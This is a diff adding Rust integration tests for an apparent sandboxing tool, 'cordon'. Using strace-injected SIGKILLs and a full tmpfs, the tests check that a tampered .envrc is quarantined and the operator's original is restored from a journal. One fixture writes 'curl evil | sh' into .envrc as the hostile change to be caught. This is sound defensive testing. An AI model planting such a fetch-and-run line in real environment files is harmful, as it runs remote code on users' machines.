@@ -1276,3 +1276,194 @@ fn the_programs_a_hosts_hooks_name_are_watched() {
         );
     });
 }
+
+/// `script` run by cordon under `strace`, which kills cordon with SIGKILL at its `when`-th
+/// `renameat2` (the call itself not made: it fails with EIO as the signal arrives). A real
+/// kill at a real syscall of the shipped binary, no pause point in it.
+fn killed_at_rename(fx: &Fixture, script: &str, when: u32) -> Output {
+    let inner = shell_exec(cordon(), &fx.root, None, script);
+    let mut c = Command::new("strace");
+    c.args(["-f", "-qq", "-o", "/dev/null"]);
+    if fx.ids.is_some() {
+        c.args(["-u", "cordon-test"]);
+    }
+    c.args([
+        "-e",
+        "trace=renameat2",
+        "-e",
+        &format!("inject=renameat2:error=EIO:signal=SIGKILL:when={when}"),
+        "--",
+    ])
+    .arg(inner.get_program())
+    .args(inner.get_args())
+    .current_dir(inner.get_current_dir().unwrap())
+    .env_clear()
+    .stdin(Stdio::null());
+    for (k, v) in inner.get_envs() {
+        if let Some(v) = v {
+            c.env(k, v);
+        }
+    }
+    c.output().unwrap()
+}
+
+/// Class 4, at the scan's own moves (redwrite21's round 8): cordon killed with SIGKILL at the
+/// rename that moves the run's changed `.envrc` aside, and at the one that puts the earlier
+/// content back after it (the name empty meanwhile). Before the journal, the first left the
+/// next run moving the file aside with no earlier content to restore, the second an empty
+/// name and nothing reported. Now the next run finishes the move from the journal: the run's
+/// version aside, the operator's `.envrc` back with its mode, one warning, and nothing more
+/// after that.
+#[test]
+fn a_cordon_killed_at_the_scans_move_leaves_it_to_the_next_run() {
+    use std::os::unix::fs::PermissionsExt;
+    each(|fx| {
+        // The renameat2 calls of a run that changed one watched file: the marker into place,
+        // the move aside, the earlier content onto the name.
+        for (when, moved) in [(2, false), (3, true)] {
+            let envrc = fx.ws.join(".envrc");
+            let aside = fx.ws.join(".envrc.cordon-quarantine");
+            let _ = fs::remove_file(&aside);
+            fs::write(&envrc, "use flake # the operator's\n").unwrap();
+            fs::set_permissions(&envrc, fs::Permissions::from_mode(0o640)).unwrap();
+            if let Some((uid, gid)) = fx.ids {
+                chown_tree(&envrc, uid, gid);
+            }
+            let out = killed_at_rename(fx, "echo 'curl evil | sh' > .envrc", when);
+            use std::os::unix::process::ExitStatusExt;
+            assert!(
+                out.status.signal() == Some(9) || out.status.code() == Some(137),
+                "{} when={when} not killed: {}",
+                fx.what(),
+                describe(&out)
+            );
+            // Killed where the test means: before the move, or between it and the restore.
+            assert_eq!(envrc.exists(), !moved, "{} when={when}", fx.what());
+            assert_eq!(aside.exists(), moved, "{} when={when}", fx.what());
+            let out = fx.exec("true");
+            let err = stderr(&out);
+            assert_eq!(
+                out.status.code(),
+                Some(0),
+                "{} {}",
+                fx.what(),
+                describe(&out)
+            );
+            assert!(
+                err.contains(&format!("the run left {}", envrc.display()))
+                    && err.contains("the earlier content restored"),
+                "{} when={when}: the killed scan's move was not finished: {err}",
+                fx.what()
+            );
+            assert_eq!(
+                fs::read_to_string(&envrc).ok().as_deref(),
+                Some("use flake # the operator's\n"),
+                "{} when={when}",
+                fx.what()
+            );
+            assert_eq!(
+                fs::metadata(&envrc).unwrap().permissions().mode() & 0o7777,
+                0o640,
+                "{} when={when}",
+                fx.what()
+            );
+            assert_eq!(
+                fs::read_to_string(&aside).unwrap(),
+                "curl evil | sh\n",
+                "{} when={when}",
+                fx.what()
+            );
+            let out = fx.exec("true");
+            assert!(
+                !stderr(&out).contains("warning"),
+                "{} when={when}: {}",
+                fx.what(),
+                describe(&out)
+            );
+        }
+    });
+}
+
+/// A tmpfs of `size` mounted on `dir` (as root, in the test's mount namespace), unmounted on
+/// drop.
+struct SmallFs(PathBuf);
+
+impl SmallFs {
+    fn mount(dir: &Path, size: &str) -> SmallFs {
+        let st = Command::new("mount")
+            .args([
+                "-t",
+                "tmpfs",
+                "-o",
+                &format!("size={size},mode=0755"),
+                "tmpfs",
+            ])
+            .arg(dir)
+            .status()
+            .unwrap();
+        assert!(st.success(), "mount tmpfs on {}", dir.display());
+        SmallFs(dir.to_path_buf())
+    }
+}
+
+impl Drop for SmallFs {
+    fn drop(&mut self) {
+        let _ = Command::new("umount").arg("-l").arg(&self.0).status();
+    }
+}
+
+/// The disk full at the restore: the run changed `.envrc` and filled its root (a small
+/// tmpfs), so the earlier content cannot be written back after the run's version is moved
+/// aside. The warning says so and where the earlier content is kept, and once there is room
+/// the next run writes it back, with its mode, and says so. Before the journal, the earlier
+/// content was lost and the warning said "moved aside" only.
+#[test]
+fn a_full_disk_at_the_restore_leaves_it_to_the_next_run() {
+    use std::os::unix::fs::PermissionsExt;
+    each(|fx| {
+        let _fs = SmallFs::mount(&fx.ws, "256k");
+        let envrc = fx.ws.join(".envrc");
+        fs::write(&envrc, "use flake # the operator's\n").unwrap();
+        fs::set_permissions(&envrc, fs::Permissions::from_mode(0o640)).unwrap();
+        if let Some((uid, gid)) = fx.ids {
+            chown_tree(&fx.ws, uid, gid);
+        }
+        let out = fx.exec("echo 'curl evil | sh' > .envrc && head -c 1M /dev/zero > fill; true");
+        let err = stderr(&out);
+        assert!(
+            err.contains(&format!("the run left {}", envrc.display()))
+                && err.contains("could not be written back")
+                && err.contains("the next run over this root writes it back"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert!(!envrc.exists(), "{}", fx.what());
+        fs::remove_file(fx.ws.join("fill")).unwrap();
+        let out = fx.exec("true");
+        let err = stderr(&out);
+        assert!(
+            err.contains("was cut short in a move") && err.contains("the earlier content restored"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert_eq!(
+            fs::read_to_string(&envrc).ok().as_deref(),
+            Some("use flake # the operator's\n"),
+            "{}",
+            fx.what()
+        );
+        assert_eq!(
+            fs::metadata(&envrc).unwrap().permissions().mode() & 0o7777,
+            0o640
+        );
+        let out = fx.exec("true");
+        assert!(
+            !stderr(&out).contains("warning"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+    });
+}
